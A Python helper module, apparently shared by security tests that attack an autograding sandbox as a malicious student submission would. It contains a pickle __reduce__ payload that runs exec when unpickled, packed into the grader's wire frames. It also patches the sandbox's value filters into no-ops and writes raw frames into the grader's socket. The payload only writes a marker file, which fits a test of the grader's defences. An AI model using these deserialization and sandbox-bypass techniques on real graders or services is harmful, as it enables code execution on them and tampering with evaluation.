"""Helpers shared by several attacks (copied next to them as student/_common.py)."""
import io
import os
import pickle
import struct
import sys
import types

MARKERS = "@MARKERS@"   # a folder only root can write: a file appearing there means the grader ran our payload
_NAMES = "@FUNCTIONS@"   # the graded functions, from the assignment's declaration (comma-separated)
FUNCTIONS = tuple(_NAMES.split(","))


class Evil:
    """Unpickling this runs code: it writes a marker file (a real attack would do anything)."""

    def __reduce__(self):
        return exec, (f"open({MARKERS + '/reduce-ran'!r}, 'w').write('a submission ran code in the grader')",)


def stub(api, name):
    """The package's own function `name` (api: the package's globals, however its __init__ loads names)."""
    return getattr(sys.modules[api["__name__"]], name)


def _identity(value, *_rest):
    return value


def disable_sandbox_checks() -> int:
    """Turn the sandbox's own "plain values only" filters into no-ops, so only the grader's side can stop us.

    The filters are found in loaded modules and in the globals of our callers' frames (the
    sandbox's own module is no longer in sys.modules, but its frame is still on the stack).
    """
    namespaces = [vars(module) for module in list(sys.modules.values()) if module is not None]
    frame = sys._getframe(1)
    while frame is not None:
        namespaces.append(frame.f_globals)
        frame = frame.f_back
    patched = {}
    for namespace in namespaces:
        for name in ("plain_result", "wire"):
            function = namespace.get(name)
            if isinstance(function, types.FunctionType) and not function.__module__.startswith("student"):
                function.__code__ = _identity.__code__
                function.__defaults__ = None
                patched[id(function)] = function
    return len(patched)


def evil_frames() -> list[bytes]:
    """Two frames in the engine's wire format (8-byte length + payload) whose payload runs Evil on load."""
    import torch

    buffer = io.BytesIO()
    torch.save({"ok": True, "value": Evil()}, buffer)
    raw = pickle.dumps({"ok": True, "value": Evil()}, protocol=2)
    return [struct.pack("!Q", len(data)) + data for data in (raw, buffer.getvalue())]


SOCKET_FD = 3   # the sandbox's socket to the grader


def frame(header: dict, data: bytes = b"") -> bytes:
    """A frame as the wire carries one: its length, the JSON header's length, the header, the tensor bytes."""
    import json
    text = json.dumps(header).encode()
    body = struct.pack("!I", len(text)) + text + data
    return struct.pack("!Q", len(body)) + body


def install_sending_first(api, raws) -> None:
    """Every graded function first writes raw bytes straight into the socket (`raws`: bytes, or a list handed out
    to the functions in turn), then behaves like the stub."""
    raws = [raws] if isinstance(raws, bytes) else raws

    def sending(function, raw):
        def call(*args, **kwargs):
            try:
                os.write(SOCKET_FD, raw)
            except OSError as error:
                print(f"could not write to the socket: {error}")
            return function(*args, **kwargs)
        return call
    for index, name in enumerate(FUNCTIONS):
        api[name] = sending(stub(api, name), raws[index % len(raws)])
